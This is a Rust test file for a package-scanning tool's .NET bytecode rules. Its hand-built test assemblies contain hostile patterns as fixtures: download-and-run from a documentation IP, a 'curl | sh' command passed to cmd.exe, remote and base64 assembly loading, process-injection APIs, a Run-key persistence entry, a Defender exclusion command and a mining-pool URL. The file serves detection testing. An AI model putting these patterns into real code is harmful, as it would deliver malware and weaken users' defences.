//! Assemblies made by hand.

use packguard_sdk::{Phase, Severity};
use proptest::prelude::*;

use super::build::Assembly;
use super::{analyze, found};

const CALL: u8 = 0x28;
const VIRTUAL: u8 = 0x6F;
const NEW: u8 = 0x73;
/// Signatures: static, and with a receiver.
const STATIC: u8 = 0;
const THIS: u8 = 0x20;
const RETURN: &[u8] = &[0x2A];
const POP: &[u8] = &[0x26];

#[track_caller]
fn expect(assembly: Assembly, rule: &str, severity: Severity) {
    let rules = found(&[("lib/demo.dll", assembly.build())]);
    assert!(rules.contains(&(rule.to_owned(), severity)), "{rules:?}");
}

/// `new WebClient().DownloadFile(address, path); Process.Start(path)`
fn downloader(address: &str) -> Assembly {
    let mut demo = Assembly::new();
    let code = [
        demo.call(NEW, "System.Net.WebClient::.ctor", THIS, 0, false),
        demo.text(address),
        demo.text("C:\\a.exe"),
        demo.call(
            VIRTUAL,
            "System.Net.WebClient::DownloadFile",
            THIS,
            2,
            false,
        ),
        demo.text("C:\\a.exe"),
        demo.call(CALL, "System.Diagnostics.Process::Start", STATIC, 1, true),
        POP.to_vec(),
        RETURN.to_vec(),
    ]
    .concat();
    demo.method(".cctor", code);
    demo
}

#[test]
fn a_download_that_is_started_is_found_at_import() {
    let file = downloader("http://192.0.2.7/a.exe").build();
    let analysis = analyze(&[("lib/demo.dll", file)]);
    let finding = analysis
        .findings()
        .iter()
        .find(|one| one.rule == "bytecode-download-execute")
        .unwrap();
    assert_eq!(
        (finding.severity, finding.phase),
        (Severity::Critical, Phase::Import)
    );
    assert!(
        finding.title.ends_with("Demo.Program..cctor"),
        "{}",
        finding.title
    );
}

#[test]
fn assemblies_out_of_the_network_or_of_text_are_found() {
    let mut demo = Assembly::new();
    let code = [
        demo.call(NEW, "System.Net.WebClient::.ctor", THIS, 0, false),
        demo.text("https://downloads.example/stage.bin"),
        demo.call(VIRTUAL, "System.Net.WebClient::DownloadData", THIS, 1, true),
        demo.call(CALL, "System.Reflection.Assembly::Load", STATIC, 1, true),
        RETURN.to_vec(),
    ]
    .concat();
    demo.method("Run", code);
    expect(demo, "bytecode-remote-code", Severity::High);

    let mut demo = Assembly::new();
    let code = [
        demo.text("AAECAwQF"),
        demo.call(CALL, "System.Convert::FromBase64String", STATIC, 1, true),
        demo.call(CALL, "System.Reflection.Assembly::Load", STATIC, 1, true),
        RETURN.to_vec(),
    ]
    .concat();
    demo.method("Run", code);
    expect(demo, "bytecode-decoded-code", Severity::High);
}

#[test]
fn a_start_info_and_its_properties_are_one_command() {
    let mut demo = Assembly::new();
    let code = [
        demo.call(
            NEW,
            "System.Diagnostics.ProcessStartInfo::.ctor",
            THIS,
            0,
            false,
        ),
        vec![0x0A, 0x06],
        demo.text("cmd.exe"),
        demo.call(
            VIRTUAL,
            "System.Diagnostics.ProcessStartInfo::set_FileName",
            THIS,
            1,
            false,
        ),
        vec![0x06],
        demo.text("/c curl http://192.0.2.7/a.sh | sh"),
        demo.call(
            VIRTUAL,
            "System.Diagnostics.ProcessStartInfo::set_Arguments",
            THIS,
            1,
            false,
        ),
        vec![0x06],
        demo.call(CALL, "System.Diagnostics.Process::Start", STATIC, 1, true),
        RETURN.to_vec(),
    ]
    .concat();
    demo.method("Run", code);
    expect(demo, "bytecode-hostile-command", Severity::High);
}

#[test]
fn declared_functions_that_inject_are_found() {
    let mut demo = Assembly::new();
    let names = ["VirtualAllocEx", "WriteProcessMemory", "CreateRemoteThread"];
    let calls: Vec<u8> = names
        .iter()
        .flat_map(|name| [demo.import(name, 0), POP.to_vec()].concat())
        .collect();
    demo.method("Run", [calls, RETURN.to_vec()].concat());
    expect(demo, "bytecode-injection", Severity::Medium);
}

#[test]
fn autostart_defences_and_programs_in_texts_are_found() {
    let mut demo = Assembly::new();
    let code = [
        vec![0x14],
        demo.text("Software\\Microsoft\\Windows\\CurrentVersion\\Run"),
        demo.call(
            VIRTUAL,
            "Microsoft.Win32.RegistryKey::OpenSubKey",
            THIS,
            1,
            true,
        ),
        demo.text("demo"),
        demo.text("C:\\a.exe"),
        demo.call(
            VIRTUAL,
            "Microsoft.Win32.RegistryKey::SetValue",
            THIS,
            2,
            false,
        ),
        RETURN.to_vec(),
    ]
    .concat();
    demo.method("Run", code);
    expect(demo, "bytecode-persistence", Severity::Medium);

    for (text, rule, severity) in [
        (
            "powershell Add-MpPreference -ExclusionPath C:\\".to_owned(),
            "bytecode-defences-off",
            Severity::High,
        ),
        (
            format!("TVqQAA{}", "A".repeat(600)),
            "bytecode-encoded-program",
            Severity::Medium,
        ),
        (
            "stratum+tcp://pool.example:3333".to_owned(),
            "bytecode-miner",
            Severity::Medium,
        ),
        (
            "vboxservice vmtoolsd wireshark x64dbg".to_owned(),
            "bytecode-analysis-check",
            Severity::Medium,
        ),
    ] {
        let mut demo = Assembly::new();
        let code = [demo.text(&text), POP.to_vec(), RETURN.to_vec()].concat();
        demo.method("Run", code);
        expect(demo, rule, severity);
    }
}

#[test]
fn ordinary_assemblies_stay_quiet() {
    let mut demo = Assembly::new();
    let code = [
        demo.call(NEW, "System.Net.WebClient::.ctor", THIS, 0, false),
        demo.text("https://downloads.example/data.json"),
        demo.call(
            VIRTUAL,
            "System.Net.WebClient::DownloadString",
            THIS,
            1,
            true,
        ),
        POP.to_vec(),
        demo.text("git"),
        demo.text("status"),
        demo.call(CALL, "System.Diagnostics.Process::Start", STATIC, 2, true),
        POP.to_vec(),
        demo.text("AAECAwQF"),
        demo.call(CALL, "System.Convert::FromBase64String", STATIC, 1, true),
        RETURN.to_vec(),
    ]
    .concat();
    demo.method("Run", code);
    assert_eq!(found(&[("lib/demo.dll", demo.build())]), []);
}

#[test]
fn a_broken_assembly_is_a_problem() {
    let mut file = downloader("http://192.0.2.7/a.exe").build();
    let at = file.windows(4).position(|four| four == b"BSJB").unwrap();
    file[at] = 0;
    let analysis = analyze(&[("lib/demo.dll", file)]);
    assert_eq!(analysis.problems().len(), 1);
}

proptest! {
    #![proptest_config(ProptestConfig { failure_persistence: None, ..ProptestConfig::with_cases(300) })]

    #[test]
    fn hostile_bytes_never_break_it(
        changes in prop::collection::vec((0..2_000_usize, any::<u8>()), 0..60),
        length in 0..2_000_usize,
    ) {
        let mut file = downloader("http://192.0.2.7/a.exe").build();
        for (at, byte) in changes {
            if let Some(old) = file.get_mut(at) {
                *old = byte;
            }
        }
        file.truncate(length);
        let _ = analyze(&[("lib/demo.dll", file)]);
    }
}
